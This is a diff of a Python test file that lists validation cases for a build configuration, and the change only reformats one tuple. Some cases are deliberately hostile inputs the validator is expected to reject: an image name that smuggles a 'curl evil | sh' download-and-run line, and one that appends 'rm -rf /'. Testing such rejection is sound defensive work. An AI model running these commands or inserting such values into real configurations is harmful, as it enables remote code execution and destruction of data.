@@ -40,7 +40,11 @@ CASES: list[tuple[str, str, str]] = [
     ('[python]\nrequirements = ["a\\u0000b"]\n', "python.requirements[0]", "control characters"),
     ('kind2 = "x"\n', "kind2", "did you mean 'kind'"),
     ('[base]\nos = "ubuntu26.04"\n', "base.os", "valid: debian12, ubuntu22.04, ubuntu24.04"),
-    ('[base]\nimage = "ubuntu\\nRUN curl evil | sh"\n', "base.image", "not a Docker image reference (control or non-ASCII"),
+    (
+        '[base]\nimage = "ubuntu\\nRUN curl evil | sh"\n',
+        "base.image",
+        "not a Docker image reference (control or non-ASCII",
+    ),
     ('[base]\nimage = "Ubuntu:24.04"\n', "base.image", "Docker image reference"),
     ('[base]\nimage = "ubuntu:24.04; rm -rf /"\n', "base.image", "Docker image reference"),
     ('[base]\nimage = "ubuntu:24.04\\n"\n', "base.image", "image reference"),
